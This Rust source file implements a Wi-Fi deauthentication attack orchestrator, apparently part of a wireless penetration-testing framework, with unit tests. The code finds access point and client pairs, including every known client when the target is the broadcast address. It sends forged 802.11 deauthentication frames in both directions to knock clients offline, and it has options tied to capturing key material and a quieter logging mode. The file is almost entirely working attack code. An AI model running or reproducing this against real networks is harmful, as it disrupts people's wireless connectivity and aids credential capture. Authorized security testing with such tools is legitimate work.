//! Deauthentication attack
//!
//! The [`DeauthOrchestrator`] is the entry point for kicking clients off
//! their access points:
//!
//! - Target resolution against the [`WifiRegistry`] and the skip list
//! - Channel-sorted scheduling of AP/client flows
//! - A background worker per invocation, cancellable at any time
//! - On-demand radio activation and release
//!
//! Frames go out in both directions (AP to client and client to AP) so the
//! association is torn down whichever side listens.

use crate::cancel::CancelToken;
use crate::channel::ChannelArbiter;
use crate::injector::{FlowLabel, PacketInjector};
use crate::lease::RadioLease;
use crate::settings::DeauthSettings;
use airjam_core::{Error, InjectionStats, MacAddr, ParamStore, Radio, Result};
use airjam_packet::build_deauth;
use airjam_packet::dot11::ManagementHeader;
use airjam_wifi::{AccessPoint, Station, WifiRegistry};
use chrono::{DateTime, Utc};
use dashmap::DashMap;
use parking_lot::Mutex;
use std::collections::HashSet;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use tokio::time::sleep;
use tracing::{debug, error, info, warn};
use uuid::Uuid;

const OPERATION: &str = "wifi_deauth";

/// One access point / client pair to disassociate
#[derive(Debug, Clone)]
pub struct Flow {
    pub ap: Arc<AccessPoint>,
    pub client: Arc<Station>,
}

impl Flow {
    pub fn new(ap: Arc<AccessPoint>, client: Arc<Station>) -> Self {
        Self { ap, client }
    }

    /// Channel the flow has to be sent on
    pub fn channel(&self) -> u32 {
        self.ap.channel()
    }
}

/// Information about a running deauthentication worker
#[derive(Debug, Clone)]
pub struct DeauthInfo {
    /// Unique worker ID
    pub id: Uuid,
    /// Address the attack was launched against
    pub target: MacAddr,
    /// Number of scheduled flows
    pub flows: usize,
    /// When the worker was launched
    pub started_at: DateTime<Utc>,
    token: CancelToken,
}

impl DeauthInfo {
    pub fn is_cancelled(&self) -> bool {
        self.token.is_cancelled()
    }
}

/// Every AP/client pair `target` selects, minus skipped addresses
///
/// A pair qualifies when the target is the broadcast address, the AP or the
/// client, and neither the AP nor the client is in `skip`.
pub fn resolve_targets(
    registry: &WifiRegistry,
    target: MacAddr,
    skip: &HashSet<MacAddr>,
) -> Vec<Flow> {
    let broadcast = target.is_broadcast();
    let mut flows = Vec::new();

    for ap in registry.list() {
        let is_ap = ap.bssid() == target;

        for client in ap.clients() {
            if !(broadcast || is_ap || client.address() == target) {
                continue;
            }

            if skip.contains(&ap.bssid()) || skip.contains(&client.address()) {
                debug!(
                    bssid = %ap.bssid(),
                    station = %client.address(),
                    "Skipping flow, address in deauth skip list"
                );
                continue;
            }

            flows.push(Flow::new(Arc::clone(&ap), client));
        }
    }

    flows
}

/// Order flows by ascending channel, keeping the incoming order within a
/// channel, so the radio hops as little as a single pass allows
pub fn schedule(mut flows: Vec<Flow>) -> Vec<Flow> {
    flows.sort_by_key(Flow::channel);
    flows
}

struct Shared {
    registry: Arc<WifiRegistry>,
    settings: Arc<DeauthSettings>,
    injector: PacketInjector,
    arbiter: Arc<ChannelArbiter>,
    lease: RadioLease,
    active: DashMap<Uuid, DeauthInfo>,
}

/// Leaves the active table and drops the radio hold, however the worker ends
struct WorkerGuard {
    shared: Arc<Shared>,
    id: Uuid,
}

impl Drop for WorkerGuard {
    fn drop(&mut self) {
        self.shared.active.remove(&self.id);
        self.shared.lease.release();
        debug!(id = %self.id, "Deauth worker finished");
    }
}

/// Launches and tracks deauthentication attacks
pub struct DeauthOrchestrator {
    shared: Arc<Shared>,
    stats: Arc<InjectionStats>,
    root: Mutex<CancelToken>,
    shutting_down: AtomicBool,
}

impl DeauthOrchestrator {
    /// Create an orchestrator with its own channel arbiter
    pub fn new(
        registry: Arc<WifiRegistry>,
        radio: Arc<dyn Radio>,
        params: Arc<ParamStore>,
    ) -> Self {
        let arbiter = Arc::new(ChannelArbiter::new(Arc::clone(&radio)));
        Self::with_arbiter(registry, radio, params, arbiter)
    }

    /// Create an orchestrator sharing `arbiter` with other radio users
    pub fn with_arbiter(
        registry: Arc<WifiRegistry>,
        radio: Arc<dyn Radio>,
        params: Arc<ParamStore>,
        arbiter: Arc<ChannelArbiter>,
    ) -> Self {
        let settings = Arc::new(DeauthSettings::new(params));
        let stats = Arc::new(InjectionStats::new());

        Self {
            shared: Arc::new(Shared {
                registry,
                injector: PacketInjector::new(
                    Arc::clone(&radio),
                    Arc::clone(&stats),
                    Arc::clone(&settings),
                ),
                settings,
                arbiter,
                lease: RadioLease::new(radio),
                active: DashMap::new(),
            }),
            stats,
            root: Mutex::new(CancelToken::new()),
            shutting_down: AtomicBool::new(false),
        }
    }

    /// Deauthenticate every client `target` selects
    ///
    /// `target` may be an AP (all of its clients), a single client, or the
    /// broadcast address (every known client). Returns once the flows are
    /// scheduled; transmission runs in the background.
    pub async fn begin_deauth(&self, target: MacAddr) -> Result<()> {
        self.launch(target).await.map(|_| ())
    }

    /// Like [`begin_deauth`](Self::begin_deauth), returning the worker ID
    ///
    /// `None` means a broadcast target matched nothing and no worker was
    /// started.
    pub async fn launch(&self, target: MacAddr) -> Result<Option<Uuid>> {
        if self.shutting_down.load(Ordering::SeqCst) {
            return Err(shutting_down());
        }

        let skip = self.shared.settings.skip_list()?;
        self.shared.lease.acquire().await?;

        let flows = resolve_targets(&self.shared.registry, target, &skip);
        if flows.is_empty() {
            self.shared.lease.release();
            if target.is_broadcast() {
                debug!("No clients to deauth");
                return Ok(None);
            }
            return Err(Error::UnknownTarget(target));
        }

        // shutdown may have started while the radio was being opened
        let token = self.root.lock().child();
        if self.shutting_down.load(Ordering::SeqCst) {
            self.shared.lease.release();
            return Err(shutting_down());
        }

        let id = Uuid::now_v7();
        self.shared.active.insert(
            id,
            DeauthInfo {
                id,
                target,
                flows: flows.len(),
                started_at: Utc::now(),
                token: token.clone(),
            },
        );

        info!(id = %id, target = %target, flows = flows.len(), "Launching deauth");

        let guard = WorkerGuard {
            shared: Arc::clone(&self.shared),
            id,
        };
        tokio::spawn(async move {
            run(&guard.shared, flows, &token).await;
            drop(guard);
        });

        Ok(Some(id))
    }

    /// Cancel one worker
    pub fn cancel(&self, id: Uuid) -> Result<()> {
        match self.shared.active.get(&id) {
            Some(info) => {
                info.token.cancel();
                info!(id = %id, "Deauth cancelled");
                Ok(())
            }
            None => {
                warn!(id = %id, "Deauth not found");
                Err(Error::NotFound(format!("Deauth {} not found", id)))
            }
        }
    }

    /// Cancel every running worker
    ///
    /// Workers stop at their next checkpoint. Attacks launched afterwards
    /// run normally.
    pub fn stop(&self) {
        let mut root = self.root.lock();
        root.cancel();
        *root = CancelToken::new();
        info!(active = self.shared.active.len(), "Stopping all deauths");
    }

    /// Cancel everything, wait for the workers and release the radio
    ///
    /// No attack can be launched afterwards.
    pub async fn shutdown(&self) {
        self.shutting_down.store(true, Ordering::SeqCst);
        // the root stays cancelled so late launches derive dead tokens
        self.root.lock().cancel();
        info!(active = self.shared.active.len(), "Shutting down deauths");
        self.shared.lease.drained().await;
        info!("Deauth orchestrator shut down");
    }

    /// Wait for every worker to finish on its own
    pub async fn wait_idle(&self) {
        self.shared.lease.drained().await;
    }

    /// Invocations holding the radio (running workers and launches in progress)
    pub fn in_flight(&self) -> usize {
        self.shared.lease.holders()
    }

    pub fn is_running(&self) -> bool {
        !self.shared.active.is_empty()
    }

    pub fn list_active(&self) -> Vec<DeauthInfo> {
        self.shared
            .active
            .iter()
            .map(|entry| entry.value().clone())
            .collect()
    }

    /// Injection statistics across every worker
    pub fn stats(&self) -> &Arc<InjectionStats> {
        &self.stats
    }

    pub fn settings(&self) -> &Arc<DeauthSettings> {
        &self.shared.settings
    }

    pub fn arbiter(&self) -> &Arc<ChannelArbiter> {
        &self.shared.arbiter
    }
}

impl Drop for DeauthOrchestrator {
    fn drop(&mut self) {
        self.root.lock().cancel();
    }
}

impl std::fmt::Debug for DeauthOrchestrator {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("DeauthOrchestrator")
            .field("active", &self.shared.active.len())
            .field("lease", &self.shared.lease)
            .field("stats", &self.stats.snapshot())
            .finish()
    }
}

fn shutting_down() -> Error {
    Error::ExecutionFailed("Deauth orchestrator is shutting down".to_string())
}

async fn run(shared: &Shared, flows: Vec<Flow>, token: &CancelToken) {
    for flow in schedule(flows) {
        if token.is_cancelled() {
            debug!("Deauth cancelled, dropping remaining flows");
            break;
        }

        let ap = &flow.ap;
        let client = &flow.client;

        if ap.is_open() && !shared.settings.open() {
            debug!(
                essid = %ap.essid(),
                bssid = %ap.bssid(),
                "Skipping deauth for open network (wifi.deauth.open is false)"
            );
            continue;
        }
        if ap.has_key_material() && !shared.settings.acquired() {
            debug!(
                essid = %ap.essid(),
                bssid = %ap.bssid(),
                "Skipping deauth, key material already acquired"
            );
            continue;
        }

        if shared.settings.silent() {
            debug!(
                station = %client.address(),
                essid = %ap.essid(),
                bssid = %ap.bssid(),
                channel = ap.channel(),
                encryption = %ap.encryption(),
                "Deauthing client"
            );
        } else {
            info!(
                station = %client.address(),
                essid = %ap.essid(),
                bssid = %ap.bssid(),
                channel = ap.channel(),
                encryption = %ap.encryption(),
                "Deauthing client"
            );
        }

        let sent = shared
            .arbiter
            .on_channel_unless(
                ap.channel(),
                || token.is_cancelled(),
                || send_deauth(shared, &flow, token),
            )
            .await;
        if sent.is_none() {
            debug!("Deauth cancelled while waiting for the radio");
            break;
        }
    }
}

/// Send `wifi.deauth.packets` frame pairs for one flow
async fn send_deauth(shared: &Shared, flow: &Flow, token: &CancelToken) {
    let packets = shared.settings.packets();
    let delay = shared.settings.delay();

    let bssid = flow.ap.bssid();
    let station = flow.client.address();
    let label = FlowLabel {
        operation: OPERATION,
        essid: flow.ap.essid(),
        bssid,
        station,
    };

    for seq in 0..packets {
        if token.is_cancelled() {
            break;
        }

        // 802.11 sequence numbers are 12 bits and wrap
        let sequence = (seq & u32::from(ManagementHeader::MAX_SEQUENCE)) as u16;

        for (source, destination) in [(bssid, station), (station, bssid)] {
            match build_deauth(source, destination, bssid, sequence) {
                Ok(frame) => shared.injector.inject(&frame, &label).await,
                Err(e) => error!(
                    bssid = %bssid,
                    station = %station,
                    sequence,
                    error = %e,
                    "Could not create deauth frame"
                ),
            }
        }

        sleep(delay).await;
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use airjam_core::mock::MockRadio;
    use airjam_wifi::Aliases;

    fn mac(a: u8, b: u8) -> MacAddr {
        MacAddr::new([0x02, 0x00, 0x00, 0x00, a, b])
    }

    fn registry() -> Arc<WifiRegistry> {
        Arc::new(WifiRegistry::new(Arc::new(Aliases::new())))
    }

    fn channel_freq(channel: u32) -> u32 {
        2407 + channel * 5
    }

    #[test]
    fn test_resolve_by_ap_client_and_broadcast() {
        let registry = registry();
        let (ap1, _) = registry.add_if_new("one", mac(1, 0), channel_freq(1), -40);
        ap1.add_client_if_new(mac(1, 1), channel_freq(1), -50);
        ap1.add_client_if_new(mac(1, 2), channel_freq(1), -50);
        let (ap2, _) = registry.add_if_new("two", mac(2, 0), channel_freq(6), -40);
        ap2.add_client_if_new(mac(2, 1), channel_freq(6), -50);

        let none = HashSet::new();
        assert_eq!(resolve_targets(&registry, mac(1, 0), &none).len(), 2);
        assert_eq!(resolve_targets(&registry, mac(2, 1), &none).len(), 1);
        assert_eq!(resolve_targets(&registry, MacAddr::BROADCAST, &none).len(), 3);
        assert!(resolve_targets(&registry, mac(9, 9), &none).is_empty());
    }

    #[test]
    fn test_resolve_honors_skip_list() {
        let registry = registry();
        let (ap1, _) = registry.add_if_new("one", mac(1, 0), channel_freq(1), -40);
        ap1.add_client_if_new(mac(1, 1), channel_freq(1), -50);
        ap1.add_client_if_new(mac(1, 2), channel_freq(1), -50);
        let (ap2, _) = registry.add_if_new("two", mac(2, 0), channel_freq(6), -40);
        ap2.add_client_if_new(mac(2, 1), channel_freq(6), -50);

        let skip = HashSet::from([mac(1, 1), mac(2, 0)]);
        let flows = resolve_targets(&registry, MacAddr::BROADCAST, &skip);

        assert_eq!(flows.len(), 1);
        assert_eq!(flows[0].client.address(), mac(1, 2));
    }

    #[test]
    fn test_schedule_is_stable() {
        let registry = registry();
        let (ap11, _) = registry.add_if_new("eleven", mac(1, 0), channel_freq(11), -40);
        let (ap6, _) = registry.add_if_new("six", mac(2, 0), channel_freq(6), -40);
        let (ap1, _) = registry.add_if_new("one", mac(3, 0), channel_freq(1), -40);

        let flows = vec![
            Flow::new(ap11.clone(), ap11.add_client_if_new(mac(1, 1), 0, 0).0),
            Flow::new(ap6.clone(), ap6.add_client_if_new(mac(2, 1), 0, 0).0),
            Flow::new(ap1.clone(), ap1.add_client_if_new(mac(3, 1), 0, 0).0),
            Flow::new(ap6.clone(), ap6.add_client_if_new(mac(2, 2), 0, 0).0),
        ];

        let order: Vec<_> = schedule(flows)
            .iter()
            .map(|flow| flow.client.address())
            .collect();
        assert_eq!(order, vec![mac(3, 1), mac(2, 1), mac(2, 2), mac(1, 1)]);
    }

    #[tokio::test]
    async fn test_launch_registers_worker() {
        let registry = registry();
        let (ap, _) = registry.add_if_new("lab", mac(1, 0), channel_freq(6), -40);
        ap.add_client_if_new(mac(1, 1), channel_freq(6), -50);

        let params = ParamStore::new();
        DeauthSettings::register_defaults(&params).unwrap();
        let radio = Arc::new(MockRadio::active());
        let orchestrator = DeauthOrchestrator::new(registry, radio.clone(), Arc::new(params));

        let id = orchestrator.launch(mac(1, 0)).await.unwrap().unwrap();
        let active = orchestrator.list_active();
        assert_eq!(active.len(), 1);
        assert_eq!(active[0].id, id);
        assert_eq!(active[0].target, mac(1, 0));
        assert_eq!(active[0].flows, 1);
        assert!(orchestrator.is_running());

        orchestrator.cancel(id).unwrap();
        orchestrator.wait_idle().await;
        assert!(!orchestrator.is_running());
        assert!(orchestrator.cancel(id).is_err());
    }
}
